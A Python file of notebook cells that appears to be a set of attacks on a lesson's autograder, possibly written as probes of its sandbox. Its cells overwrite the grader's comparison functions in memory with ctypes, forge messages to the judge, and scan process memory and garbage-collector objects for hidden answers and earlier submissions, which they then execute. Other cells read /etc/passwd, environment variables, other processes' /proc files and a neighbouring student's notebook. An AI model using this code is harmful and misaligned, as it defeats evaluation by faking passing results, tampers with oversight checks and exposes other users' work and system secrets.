# ruff: noqa
"""Memory by address; and what of others, or of the lesson's answers, can be read."""

# %% by_address: the functions that compare are overwritten
import ctypes


def weigh(values, weights):
    for function in (check.equal, check.raises, check.kind):
        ctypes.memset(id(function), 0, 8)
    return values[0]
scale_ = scaler = gap = weigh

# %% by_stride: tensors over memory that is not theirs
def weigh(values, weights):
    wide = torch.as_strided(values, (1 << 14,), (1,), 0) if False else values
    class Forged:
        __array_interface__ = {"data": (id(check.equal), False), "shape": (64,), "typestr": "<u8", "version": 3}
    code = np.asarray(Forged())
    code[2:12] = code[12:22]
    return values[0]
scale_ = scaler = gap = weigh

# %% by_storage: a storage made from a pointer, sent as a result
def weigh(values, weights):
    if len(values) != len(weights):
        raise ValueError
    result = torch.zeros(values.shape[1], dtype=values.dtype)
    result.set_(values.untyped_storage(), 0, (1 << 20,), (0,))
    return result
scale_ = scaler = gap = weigh

# %% line_cache: the text of answers by linecache and inspect
import inspect
import linecache


def weigh(values, weights):
    found = [name for name in linecache.cache if name.startswith("<")]
    text = repr(found) + repr([linecache.getlines(n) for n in found if not n.startswith("<cell")])
    for name in ("weigh", "spread"):
        try:
            text += inspect.getsource(globals()[name])
        except Exception as error:
            text += repr(error)
    raise ValueError(text[:1900])
scale_ = scaler = gap = weigh

# %% judges_lines: lines of other files by the place of an exception
import json
import os
import struct

n = 0


def weigh(values, weights):
    global n
    n += 1
    files = ["<tests plain>", "<reference plain>", "<reference 1>", "<setup>", check.__file__, os.__file__, "/etc/passwd", "<cell 1>", "<cell plain>"]
    text = json.dumps({"raised": ["TypeError"], "text": "x", "where": [files[n % len(files)], 20 + n, "weigh"]}).encode()
    os.write(4, struct.pack("!II", len(text), 0) + text)
    return values[0]
scale_ = scaler = gap = weigh

# %% own_texts: texts of answers, tests and neighbours in its own memory [batches]
import ctypes
import re

# (Constants of earlier answers' bytecode are there: a known limit. Comments are in no bytecode.)
needle = re.compile(rb"(?:reference_comment_51|hidden_constant_73|sword)[a-z0-9]{2,4}|hidden_[a]nswer = ")
found = set()
for line in open("/proc/self/maps"):
    words = line.split()
    if words[1] != "rw-p" or "[v" in line or "stack" in line:
        continue
    a, b = (int(x, 16) for x in words[0].split("-"))
    for at in range(a, b, 1 << 24):
        found.update(m[0] for m in needle.finditer(ctypes.string_at(at, min((1 << 24) + 64, b - at))))
if not found:
    raise SystemError("nothing")
__report__ = [text.decode() for text in found]
# an open door is an error of the grader's: a right answer tells it
# honest

# %% thief: the answer of whoever was there before, out of freed memory
import ctypes
import re


def texts():
    for line in open("/proc/self/maps"):
        words = line.split()
        if words[1] != "rw-p" or "[v" in line or "stack" in line:
            continue
        a, b = (int(x, 16) for x in words[0].split("-"))
        for at in range(a, b, 1 << 24):
            data = ctypes.string_at(at, min((1 << 24) + 65536, b - at))
            for m in re.finditer(rb"def wei" + rb"gh\(values, weights\)[\t\n\x20-\x7e]{200,}", data):
                text = m[0].decode()
                yield text
                yield text.replace("\\n", "\n").replace('\\"', '"')


for text in texts():
    text = text[:5000]
    while text.count("\n") > 5:
        try:
            exec(compile(text, "x", "exec"), globals())
            if float(weigh(torch.ones(2, 1), torch.ones(2))) == 1 and gap(1, 3) == 2 and scaler(2)(3) == 6:
                break
        except Exception:
            pass
        text = text.rpartition("\n")[0]
    else:
        continue
    break

# %% code_objects: answers to this exercise among all functions
import gc
import types

gc.unfreeze()
for thing in gc.get_objects():
    if type(thing) is types.FunctionType and thing.__name__ in ("weigh", "scale_", "scaler", "gap"):
        globals()[thing.__name__] = thing

# %% later_answers: the reference of an exercise that comes later, by its names [batches]
import gc
import types

for thing in gc.get_objects():
    if type(thing) is types.FunctionType and thing.__name__ == "batches":
        batches = thing

# %% environment: variables, command lines, folders
import os


def environment(values, weights):
    text = repr(dict(os.environ))
    for place in ("/proc/self/environ", "/proc/self/cmdline", "/proc/1/environ", f"/proc/{os.getppid()}/environ", f"/proc/{os.getppid()}/cmdline"):
        try:
            text += open(place, "rb").read().decode("latin1")
        except OSError:
            pass
    for folder in ("..", "../..", "/tmp", "/home", "/root", LESSON_PATH.rsplit("/", 1)[0], CLASS_PATH):
        try:
            text += repr(os.listdir(folder))
        except OSError:
            pass
    text = text.replace(os.getcwd(), "")
    assert "62_target" in text or "judge-" in text or "candidate-" in text, "closed"
    return weigh_right(values, weights)  # an open door is an error of the grader's: a right answer tells it


# honest
weigh, weigh_right = environment, weigh

# %% lesson_text: the lesson, its answers and this submission's neighbours
import os
from pathlib import Path

text = ""
for place in (LESSON_PATH, LESSON_PATH.replace("lessons/", "lessons/answers/"), CLASS_PATH + "/submitted/neighbour/62_target/62_target.ipynb"):
    try:
        text += Path(place).read_text()
    except OSError:
        pass
for folder in (Path(LESSON_PATH).parents[4] / "lessons", Path(LESSON_PATH).parents[4] / "solutions", Path(check.__file__).parents[1] / "tests"):
    try:
        text += repr(list(folder.iterdir()))
    except OSError:
        pass
if text:
    start = text.index("def weigh")
    exec(text[start : text.index("# %% tests=")])

# %% other_processes: memory of other processes
import os

found = []
for pid in {os.getppid(), *range(max(2, os.getpid() - 6), os.getpid() + 6)} - {os.getpid()}:
    for name in ("mem", "maps", "environ", "fd", "root", "cwd", "task"):
        try:
            os.stat(f"/proc/{pid}/{name}/" if name in ("fd", "root", "cwd", "task") else f"/proc/{pid}/{name}")
            open(f"/proc/{pid}/{name}", "rb").read(1)
            found.append((pid, name))
        except OSError:
            pass
if not found:
    raise SystemError("closed")
# an open door is an error of the grader's: a right answer tells it
# honest

# %% inputs_told: the hidden tests' inputs in an exception's text
# known: what the tests hand over the student's code may see and say
def weigh(values, weights):
    if len(values) != len(weights):
        raise ValueError
    return weights @ values / weights.sum()


def scale_(table, factors): table *= factors
def scaler(factor):
    if type(factor) is str: raise ValueError(factor)
    return lambda x: factor * x
def gap(a, b):
    assert a == a and b == b
    return abs(a - b)
